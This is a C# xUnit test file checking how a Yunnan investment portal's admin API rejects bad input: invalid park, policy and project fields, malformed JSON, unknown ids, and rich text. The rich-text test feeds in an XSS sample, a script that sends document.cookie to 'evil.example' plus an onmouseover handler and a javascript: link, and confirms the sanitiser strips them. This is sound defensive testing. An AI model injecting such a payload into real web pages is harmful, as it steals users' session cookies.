using System.Net;
using System.Net.Http.Json;
using System.Text;
using Portal.Testing;
using Xunit;
using static Portal.Catalogue.Tests.Http.CatalogueApi;

namespace Portal.Catalogue.Tests.Http;

/// <summary>Wrong input gets a clear answer and changes nothing.</summary>
public sealed class BadInputTests(CatalogueFixture fixture) : IClassFixture<CatalogueFixture>
{
    private PortalApp App => fixture.App;

    [ServiceFact(Service.Postgres)]
    public async Task Invalid_park_fields_get_an_error_each_and_nothing_is_saved()
    {
        var (_, c) = await fixture.NewPrefectureAsync();
        using var client = c;
        var invalid = Park("")
            .With("kind", "zone")
            .With("level", "city")
            .With("latitude", 40.1m)
            .With("plannedAreaMu", 1000m)
            .With("availableLandMu", 5000m)
            .With("powerPriceYuanPerKwh", -0.1m)
            .With("chains", new[] { "green-aluminium", "lithium-mining" });

        using var response = await client.PostAsJsonAsync("/api/admin/parks", invalid);

        var problem = await AssertProblemAsync(response, HttpStatusCode.BadRequest);
        Assert.Equal(
            ["availableLandMu", "chains[1]", "kind", "latitude", "level", "name", "powerPriceYuanPerKwh"],
            FieldsWithErrors(problem));
        Assert.Equal("提交的数据有误", problem.GetProperty("title").GetString());
        Assert.Contains("5000", problem.GetProperty("errors").GetProperty("availableLandMu")[0].GetString(), StringComparison.Ordinal);
        Assert.Contains("lithium-mining", problem.GetProperty("errors").GetProperty("chains[1]")[0].GetString(), StringComparison.Ordinal);
        Assert.Equal(0, (await GetJsonAsync(client, "/api/admin/parks")).GetProperty("total").GetInt32());
    }

    [ServiceFact(Service.Postgres)]
    public async Task English_callers_get_english_messages()
    {
        using var a = await fixture.ClientOfAAsync();
        using var request = new HttpRequestMessage(HttpMethod.Post, "/api/admin/parks")
        {
            Content = JsonContent.Create(Park().With("latitude", 103.8m).With("longitude", 25.4m)),
        };
        request.Headers.AcceptLanguage.ParseAdd("en");

        using var response = await a.SendAsync(request);

        var problem = await AssertProblemAsync(response, HttpStatusCode.BadRequest);
        Assert.Equal("One or more fields are invalid", problem.GetProperty("title").GetString());
        Assert.StartsWith("The location is outside Yunnan", problem.GetProperty("errors").GetProperty("latitude")[0].GetString(), StringComparison.Ordinal);
    }

    [ServiceFact(Service.Postgres)]
    public async Task Scripts_and_event_handlers_are_stripped_from_rich_text_on_the_way_in()
    {
        using var a = await fixture.ClientOfAAsync();
        const string dirty = """<p onmouseover="steal()">园区简介</p><script>fetch('https://evil.example/'+document.cookie)</script><a href="javascript:alert(1)">点此</a><a href="https://www.yn.gov.cn/">省政府</a>""";

        var park = await CreateAsync(a, "parks", Park("富文本园区").With("description", dirty));
        var policy = await CreateAsync(a, "policies", Policy("富文本政策", "曲政发〔2024〕55号").With("body", dirty));

        foreach (var html in new[] { park.GetProperty("description").GetString()!, policy.GetProperty("body").GetString()! })
        {
            Assert.DoesNotContain("<script", html, StringComparison.OrdinalIgnoreCase);
            Assert.DoesNotContain("onmouseover", html, StringComparison.OrdinalIgnoreCase);
            Assert.DoesNotContain("javascript:", html, StringComparison.OrdinalIgnoreCase);
            Assert.Contains("<p>园区简介</p>", html, StringComparison.Ordinal);
            Assert.Contains("""<a href="https://www.yn.gov.cn/" rel="noopener noreferrer nofollow">省政府</a>""", html, StringComparison.Ordinal);
        }

        using var onlyScript = await a.PostAsJsonAsync("/api/admin/policies", Policy("空正文", "曲政发〔2024〕56号").With("body", "<script>alert(1)</script>"));
        Assert.Equal(["body"], FieldsWithErrors(await AssertProblemAsync(onlyScript, HttpStatusCode.BadRequest)));
    }

    [ServiceFact(Service.Postgres)]
    public async Task Malformed_json_wrong_types_and_missing_bodies_are_400s_that_change_nothing()
    {
        var (_, c) = await fixture.NewPrefectureAsync();
        using var client = c;

        using var broken = await client.PostAsync(new Uri("/api/admin/parks", UriKind.Relative), new StringContent("{ \"name\": \"断", Encoding.UTF8, "application/json"));
        using var wrongType = await client.PostAsync(new Uri("/api/admin/parks", UriKind.Relative), new StringContent("""{ "name": "园", "latitude": "north" }""", Encoding.UTF8, "application/json"));
        using var notAGuid = await client.PostAsync(new Uri("/api/admin/policies", UriKind.Relative), new StringContent("""{ "title": "政策", "parks": ["not-a-guid"] }""", Encoding.UTF8, "application/json"));
        using var empty = await client.PostAsync(new Uri("/api/admin/projects", UriKind.Relative), new StringContent("", Encoding.UTF8, "application/json"));
        using var text = await client.PostAsync(new Uri("/api/admin/parks", UriKind.Relative), new StringContent("name=园", Encoding.UTF8, "text/plain"));

        await AssertProblemAsync(broken, HttpStatusCode.BadRequest);
        Assert.Equal(["latitude"], FieldsWithErrors(await AssertProblemAsync(wrongType, HttpStatusCode.BadRequest)));
        Assert.Equal(["parks[0]"], FieldsWithErrors(await AssertProblemAsync(notAGuid, HttpStatusCode.BadRequest)));
        await AssertProblemAsync(empty, HttpStatusCode.BadRequest);
        await AssertProblemAsync(text, HttpStatusCode.UnsupportedMediaType);
        foreach (var items in new[] { "parks", "policies", "projects" })
        {
            Assert.Equal(0, (await GetJsonAsync(client, $"/api/admin/{items}")).GetProperty("total").GetInt32());
        }
    }

    [ServiceFact(Service.Postgres)]
    public async Task Unknown_ids_are_404s()
    {
        using var a = await fixture.ClientOfAAsync();
        using var anonymous = App.CreateClient();
        var unknown = Guid.NewGuid();

        Assert.Equal(HttpStatusCode.NotFound, await StatusOfAsync(a, $"/api/admin/parks/{unknown}"));
        Assert.Equal(HttpStatusCode.NotFound, await StatusOfAsync(a, "/api/admin/parks/not-a-guid"));
        await AssertProblemAsync(await a.PutAsJsonAsync($"/api/admin/projects/{unknown}", Project().With("version", 1)), HttpStatusCode.NotFound);
        await AssertProblemAsync(await a.PostAsync(new Uri($"/api/admin/policies/{unknown}/publish", UriKind.Relative), null), HttpStatusCode.NotFound);
        await AssertProblemAsync(await anonymous.GetAsync(new Uri($"/api/policies/{unknown}", UriKind.Relative)), HttpStatusCode.NotFound);
        Assert.Equal(HttpStatusCode.NotFound, await StatusOfAsync(anonymous, "/api/projects/12345"));
    }

    [ServiceFact(Service.Postgres)]
    public async Task Policy_and_project_fields_are_checked_against_their_rules()
    {
        using var a = await fixture.ClientOfAAsync();

        using var policy = await a.PostAsJsonAsync("/api/admin/policies", Policy("日期颠倒", "曲政发〔2024〕60号")
            .With("effectiveFrom", "2025-06-01")
            .With("effectiveTo", "2025-01-01")
            .With("incentiveKinds", new[] { "land", "cash" })
            .With("level", "provincial-level"));
        using var noStart = await a.PostAsJsonAsync("/api/admin/policies", Policy("无生效日期", "曲政发〔2024〕61号").With("effectiveFrom", null));
        using var badDate = await a.PostAsJsonAsync("/api/admin/policies", Policy("日期格式", "曲政发〔2024〕62号").With("effectiveFrom", "2024/01/01"));
        using var project = await a.PostAsJsonAsync("/api/admin/projects", Project("")
            .With("investmentWan", 0m)
            .With("cooperationMode", "partner")
            .With("chain", "lithium")
            .With("contact", new { name = "", email = "no-at-sign" }));

        Assert.Equal(["effectiveTo", "incentiveKinds[1]", "level"], FieldsWithErrors(await AssertProblemAsync(policy, HttpStatusCode.BadRequest)));
        Assert.Equal(["effectiveFrom"], FieldsWithErrors(await AssertProblemAsync(noStart, HttpStatusCode.BadRequest)));
        Assert.Equal(["effectiveFrom"], FieldsWithErrors(await AssertProblemAsync(badDate, HttpStatusCode.BadRequest)));
        Assert.Equal(
            ["chain", "contact.email", "contact.name", "cooperationMode", "investmentWan", "name"],
            FieldsWithErrors(await AssertProblemAsync(project, HttpStatusCode.BadRequest)));
    }

    [ServiceFact(Service.Postgres)]
    public async Task An_invalid_edit_leaves_the_item_as_it_was()
    {
        using var a = await fixture.ClientOfAAsync();
        var id = await CreateIdAsync(a, "parks", Park("原样园区"));

        using var response = await a.PutAsJsonAsync($"/api/admin/parks/{id}", Park("新名字").With("availableLandMu", 999999m).With("version", 1));

        Assert.Equal(["availableLandMu"], FieldsWithErrors(await AssertProblemAsync(response, HttpStatusCode.BadRequest)));
        var park = await GetJsonAsync(a, $"/api/admin/parks/{id}");
        Assert.Equal("原样园区", park.GetProperty("name").GetString());
        Assert.Equal(1, park.GetProperty("version").GetInt32());
    }
}
